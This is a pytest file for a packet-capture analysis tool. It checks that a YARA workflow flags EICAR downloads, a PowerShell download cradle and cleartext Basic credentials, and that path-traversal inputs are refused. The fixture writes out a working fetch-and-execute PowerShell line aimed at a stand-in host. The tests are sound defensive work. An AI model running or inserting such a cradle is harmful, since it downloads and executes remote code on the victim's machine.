"""The ``workflow`` job kind: the shipped ``yara-streams`` workflow (real YARA, the shipped
demo rules) over a stored query result holding EICAR downloads, a PowerShell download
cradle and cleartext HTTP Basic credentials; the job's verdict counts equal those of
``pcapwire run`` on the same capture, runs and verdicts land in the tenant's case store;
through the runner in-process and through ``pcapwire worker --job -``; unknown workflow
names (a path is no name) and paths outside the tenant; a workflow of an operator's
directory is found with ``worker --workflows DIR`` only."""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections import Counter
from contextlib import closing
from pathlib import Path

import pytest
from pcapwire.cases import CASES_FILE, CaseStore
from pcapwire.jobs import Job, JobResult
from pcapwire.jobs.handlers_workflow import MAX_LABEL_CHARS, MAX_WORKFLOWS, SHIPPED_WORKFLOWS
from pcapwire.jobs.runner import run_job
from pcapwire.testing import http_download, write_capture
from pcapwire.testing.craft import http_request, http_response, tcp_session

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://198.18.0.9/a.ps1')\r\n"
EXPECTED = {"medium": 2, "high": 1, "low": 1}  # EICAR twice, the cradle, Basic auth


def cli(*args: str, input: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "pcapwire.cli", *args], input=input,
                          capture_output=True, check=False, timeout=60)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    path = tmp_path / "tenants" / "acme"
    (path / "results").mkdir(parents=True)
    write_capture(path / "results" / "q1.pcap", [
        http_download("10.0.0.2:40000 > 10.0.0.9:80", "/eicar.com", EICAR),
        http_download("10.0.0.3:40001 > 10.0.0.9:80", "/again.com", EICAR),
        http_download("10.0.0.4:40002 > 10.0.0.9:80", "/run.ps1", CRADLE,
                      content_type="text/plain"),
        tcp_session("10.0.0.5:40003 > 10.0.0.9:80",
                    http_request("/admin", headers={"Authorization": "Basic YWRtaW46c2VjcmV0"}),
                    http_response(b"ok", content_type="text/plain"))])
    return path


def workflow(root: Path, **params: object) -> JobResult:
    return run_job(Job("workflow", "w1", "acme", dict(params)), root)


def by_severity(cases_dir: Path, run_id: str) -> dict[str, int]:
    with closing(CaseStore(cases_dir / CASES_FILE)) as cases:
        return dict(Counter(v.severity for v in cases.verdicts(run_id=run_id)))


def test_a_query_result_gets_the_verdicts_pcapwire_run_gives(root: Path, tmp_path: Path
                                                             ) -> None:
    result = workflow(root, workflows=["yara-streams"], query_id="q1", case="c1",
                      event="e1")
    assert result.ok, result
    (run,) = result.data["runs"]
    assert (result.data["case"], result.data["query_id"]) == ("c1", "q1")
    assert (run["workflow"], run["status"], run["verdicts"], run["max_severity"],
            run["error"]) == ("yara-streams", "ok", 4, "high", "")
    assert run["verdicts_by_severity"] == EXPECTED
    with closing(CaseStore(root / CASES_FILE)) as cases:
        (row,) = cases.runs("c1")
        assert (row.run_id, row.workflow, row.status, row.event, row.query_id) == (
            run["run_id"], "yara-streams", "ok", "e1", "q1")
    assert by_severity(root, run["run_id"]) == EXPECTED
    # the same capture through `pcapwire run`, recorded in another store
    other = tmp_path / "cli"
    proc = cli("--data-dir", str(other), "run", str(SHIPPED_WORKFLOWS / "yara-streams.yaml"),
               "--pcap", str(root / "results" / "q1.pcap"), "--case", "c1")
    assert proc.returncode == 0, proc.stderr
    with closing(CaseStore(other / CASES_FILE)) as cases:
        (row,) = cases.runs("c1")
    assert by_severity(other, row.run_id) == run["verdicts_by_severity"]


def test_through_the_worker_command_each_workflow_is_a_run(root: Path) -> None:
    job = Job("workflow", "w2", "acme", {"workflows": ["yara-streams", "yara-streams"],
                                         "pcap": "results/q1.pcap", "case": "c2"})
    proc = cli("--data-dir", str(root), "worker", "--job", "-", input=job.to_json())
    [line] = proc.stdout.splitlines()
    result = JobResult.from_json(line)
    assert (proc.returncode, result.ok) == (0, True), result
    runs = result.data["runs"]
    assert [(r["status"], r["verdicts_by_severity"]) for r in runs] == [("ok", EXPECTED)] * 2
    assert runs[0]["run_id"] != runs[1]["run_id"]
    with closing(CaseStore(root / CASES_FILE)) as cases:
        assert sorted(r.run_id for r in cases.runs("c2")) == sorted(r["run_id"] for r in runs)


def test_workflow_names_resolve_only_on_the_worker(root: Path) -> None:
    for name in ("nope", "yara-streams.yaml", str(SHIPPED_WORKFLOWS / "yara-streams.yaml"),
                 "../workflows/yara-streams"):
        result = workflow(root, workflows=["yara-streams", name], query_id="q1", case="c")
        assert (result.ok, result.code, result.data["unknown"]) == (
            False, "unknown_workflow", [name]), name
        assert "yara-streams" in result.data["available"]
        assert result.message.startswith(f"no workflow {name!r} on this worker; available: ")
    assert not (root / CASES_FILE).exists()  # nothing ran
    too_many = workflow(root, workflows=["yara-streams"] * (MAX_WORKFLOWS + 1),
                        query_id="q1", case="c")
    assert too_many.code == "invalid_params" and "MAX_WORKFLOWS=16" in too_many.message
    long_case = workflow(root, workflows=["yara-streams"], query_id="q1",
                         case="c" * (MAX_LABEL_CHARS + 1))
    assert (long_case.code, long_case.message) == (
        "invalid_params", "parameter 'case' is 257 characters long, over MAX_LABEL_CHARS=256")


def test_captures_outside_the_tenant_are_refused(root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.pcap"
    outside.write_bytes((root / "results" / "q1.pcap").read_bytes())
    (root / "results" / "link.pcap").symlink_to(outside)
    for path in ("../../outside.pcap", str(outside), "results/link.pcap"):
        result = workflow(root, workflows=["yara-streams"], pcap=path, case="c")
        assert (result.code, result.data) == ("path_not_allowed", {"parameter": "pcap"}), path
    assert workflow(root, workflows=["yara-streams"], query_id="../../x", case="c"
                    ).code == "invalid_params"
    assert workflow(root, workflows=["yara-streams"], query_id="q2", case="c"
                    ).code == "not_found"
    both = workflow(root, workflows=["yara-streams"], query_id="q1",
                    pcap="results/q1.pcap", case="c")
    assert both.code == "invalid_params"
    assert workflow(root, workflows=["yara-streams"], query_id="q1").code == "invalid_params"


def test_a_file_that_is_no_capture_fails_the_run_not_the_job(root: Path) -> None:
    (root / "results" / "bad.pcap").write_bytes(b"not a capture at all")
    result = workflow(root, workflows=["yara-streams"], query_id="bad", case="c")
    assert result.ok, result
    (run,) = result.data["runs"]
    assert (run["status"], run["verdicts"]) == ("failed", 0)
    assert "not a pcap or pcapng file" in run["error"]


def test_worker_workflows_dirs_add_to_the_shipped_ones(root: Path, tmp_path: Path) -> None:
    site = tmp_path / "site-workflows"
    shutil.copytree(SHIPPED_WORKFLOWS / "rules", site / "rules")
    (site / "site-yara.yaml").write_text(
        (SHIPPED_WORKFLOWS / "yara-streams.yaml").read_text()
        .replace("name: yara-streams", "name: site-yara"))
    job = Job("workflow", "w3", "acme", {"workflows": ["site-yara", "yara-streams"],
                                         "query_id": "q1", "case": "c3"})
    plain = cli("--data-dir", str(root), "worker", "--job", "-", input=job.to_json())
    refused = JobResult.from_json(plain.stdout)
    assert (plain.returncode, refused.code, refused.data["unknown"]) == (
        2, "unknown_workflow", ["site-yara"])
    assert "yara-streams" in refused.data["available"]
    proc = cli("--data-dir", str(root), "worker", "--job", "-", "--workflows", str(site),
               input=job.to_json())
    result = JobResult.from_json(proc.stdout)
    assert (proc.returncode, result.ok) == (0, True), result
    assert [(r["workflow"], r["status"], r["verdicts_by_severity"])
            for r in result.data["runs"]] == [("site-yara", "ok", EXPECTED),
                                              ("yara-streams", "ok", EXPECTED)]
